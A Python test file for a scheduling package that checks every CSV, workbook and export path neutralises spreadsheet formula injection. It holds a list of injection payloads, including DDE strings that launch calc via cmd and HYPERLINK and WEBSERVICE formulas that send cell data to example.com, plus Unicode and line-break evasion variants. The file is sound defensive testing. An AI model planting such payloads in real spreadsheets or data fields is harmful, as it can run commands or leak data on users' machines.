"""Thirty cells that a spreadsheet would run, written by everything that writes tables: all of them stay text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from scheduler import parse_cohort
from scheduler.attendance.attendance import Attendance, Missed
from scheduler.attendance.records import Attended, Completed
from scheduler.attendance.written import attendance_csv, completion_csv
from scheduler.exports.briefs import Rooms, zoom_rooms
from scheduler.exports.systems import SYSTEMS, Source
from scheduler.tables.safe import bare, csv_text, inert
from scheduler.tables.workbook import Book, Column, Note, Page, book_bytes
from tests.attendance.programme import document, plan

PAYLOADS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("https://example.com/?x="&A1,"click")',
    '=IMPORTXML("https://example.com","//a")',
    '=WEBSERVICE("https://example.com/"&A2)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "-1+1",
    "-2",
    "+49 30 901820",
    "@here",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "Ada;=1+1",
    "Ada,=1+1",
    "Ada|=1+1;Okafor",
    "Ada, -1+1",
    '=1+1";=1+1',
)
LINE_PAYLOADS = ("\t=1+1", "\r=1+1", "\n=1+1", "Ada\n=1+1", "Ada\r\n@SUM(1)", "Ada\t=1+1")
"""What only a text of several lines can hold."""
RUNS = tuple("=+-@＝＋－＠")


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def runs(cell: str) -> bool:
    """Whether a cell begins a formula, once what programs skip is taken away."""
    return cell.lstrip(' \t\r\n"\u00a0\u200b\ufeff').startswith(RUNS)


def assert_inert(text: str) -> None:
    for delimiter in ",;\t|":
        assert [cell for cell in cells(text, delimiter) if runs(cell)] == []
    assert not [line for line in re.split(r"[\r\n]+", text) if runs(line)]


def poisoned(payload: str) -> dict[str, Any]:
    """The programme with a payload wherever somebody can write a text."""
    found = document()
    for learner in found["learners"]:
        learner["name"] = payload
    found["instructors"][0]["name"] = payload
    for clinic in found["clinics"]:
        clinic["title"] = payload
    found["title"] = payload
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_export_runs_a_formula(payload: str) -> None:
    cohort, made = parse_cohort(poisoned(payload)), plan()
    texts = [text for write in SYSTEMS.values() for text in write(Source(made, cohort, course=payload)).values()]
    found = Attendance((), (Attended("l1", "lab", "lab-1", 60),), ("name",), (Missed("l2", "lab", "lab-1"),), (), ())
    texts += [attendance_csv(found, cohort), completion_csv([Completed("l1", "lab")], cohort)]
    texts += [zoom_rooms(session, cohort, Rooms("mixed")) for session in made.sessions]
    for text in texts:
        assert_inert(text)
    assert any(inert(payload.strip()) in text.replace('""', '"') for text in texts)


@pytest.mark.parametrize("payload", [*PAYLOADS, *LINE_PAYLOADS])
def test_a_cell_is_inert_and_comes_back(payload: str) -> None:
    text = csv_text((payload, "note"), [(payload, None), ("Ada", 5), ("Bo", -5)])
    assert_inert(text.replace(",-5\r\n", ",5\r\n"))
    first = next(csv.reader(io.StringIO(text, newline="")))[0]
    assert bare(first) == payload or inert(payload) == first
    assert list(csv.reader(io.StringIO(text, newline="")))[-1] == ["Bo", "-5"]


@pytest.mark.parametrize(
    "text", ["Ada Okafor", "Ross-Lee", "a@b.example", "3-4 people", "C++", "1 = 1", "O'Neil", "'tis", ""]
)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    assert bare(text) == text


def test_no_workbook_holds_a_formula() -> None:
    payloads = (*PAYLOADS, *LINE_PAYLOADS)
    page = Page(
        "People", (Column("=1+1", 20), Column("b", 20, editable=True)), tuple((each, each) for each in payloads)
    )
    book = Book((page, Note("Read me", (("text", "=1+1"), ("heading", "@SUM(1)")))), {"names": payloads[:3]})
    with zipfile.ZipFile(io.BytesIO(book_bytes(book))) as parts:
        sheets = {name: parts.read(name).decode() for name in parts.namelist() if "worksheets/" in name}
    assert sheets
    for text in sheets.values():
        assert "<f>" not in text.replace("<formula1>", "")
        assert "<f " not in text


def test_everything_that_writes_csv_goes_through_one_door() -> None:
    root = Path(__file__).parents[2]
    found = [
        path.relative_to(root).as_posix()
        for folder in ("scheduler", "solvers")
        for path in sorted((root / folder).rglob("*.py"))
        if re.search(r"csv\.(writer|DictWriter)|to_csv|savetxt", path.read_text("utf-8"))
    ]
    assert found == ["scheduler/tables/safe.py"]
